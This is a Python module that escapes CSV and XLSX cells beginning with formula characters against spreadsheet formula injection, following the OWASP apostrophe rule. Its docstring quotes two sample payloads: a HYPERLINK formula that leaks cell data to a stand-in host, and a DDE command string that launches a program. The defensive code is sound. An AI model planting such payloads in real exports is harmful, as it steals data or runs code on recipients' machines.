"""Cells of every CSV and XLSX the platform writes, safe to open in a spreadsheet.

A spreadsheet runs a cell that begins with = + - @ (or a tab or carriage return before one) as a
formula: a name like `=HYPERLINK("https://evil.example/?"&A2, "click")` would leak its neighbours,
and `-2+3+cmd|' /C calc'!A0` once ran programs. So text cells beginning with any of these get a
leading apostrophe (the OWASP rule), which a spreadsheet shows as text, and the importer takes it
off again (`restore`), so an export still re-imports to the same data.

Only text is neutralised: a number (int, float, Decimal) is written as a number, so a negative
amount stays usable where the column is numeric, and a CSV of the number -5 reads `-5`.
"""

import csv
import io
from collections.abc import Iterable
from datetime import date, datetime
from decimal import Decimal
from typing import Any

from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ERROR_CODES

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"


def _needs_quote(text: str) -> bool:
    # A formula prefix after any number of apostrophes: '=x gets one more, so that restore is exact.
    return text.lstrip(QUOTE).startswith(FORMULA_PREFIXES)


def neutralise(text: str) -> str:
    """Text that a spreadsheet would read as a formula, made plain text by a leading apostrophe."""
    return QUOTE + text if _needs_quote(text) else text


def restore(text: str) -> str:
    """The inverse of `neutralise`, for what an import reads back: `'=x` is `=x`, `'abc` stays as it is."""
    return text[1:] if text.startswith(QUOTE) and _needs_quote(text[1:]) else text


def is_number(value: Any) -> bool:
    return isinstance(value, int | float | Decimal) and not isinstance(value, bool)


def cell_text(value: Any) -> str:
    """A value as the text of a CSV cell: lists joined with ';', booleans true/false, full-precision
    numbers, ISO dates; text neutralised."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, float):
        return repr(value)
    if isinstance(value, Decimal):
        return format(value, "f")
    if isinstance(value, int):
        return str(value)
    if isinstance(value, datetime | date):
        return value.isoformat()
    if isinstance(value, list):
        return neutralise(";".join(str(v) for v in value))
    return neutralise(str(value))


def csv_text(header: list[str], rows: Iterable[Iterable[Any]]) -> str:
    """A whole CSV (header row, CRLF line ends) with every cell through `cell_text`."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow([neutralise(name) for name in header])
    writer.writerows([cell_text(value) for value in row] for row in rows)
    return buffer.getvalue()


def xlsx_value(sheet: Any, value: Any) -> Any:
    """A value for openpyxl's write-only sheet: numbers as numbers, everything else as text, never a formula.

    openpyxl turns a string beginning with = into a formula and `#N/A` into an error cell; neutralised
    text cannot begin with =, and the rare error-like text is written as an explicit text cell.
    """
    if is_number(value):
        return value
    text = cell_text(value)
    if not text:
        return None
    if text in ERROR_CODES or text.startswith("="):
        text_cell = WriteOnlyCell(sheet, text)
        text_cell.data_type = "s"
        return text_cell
    return text
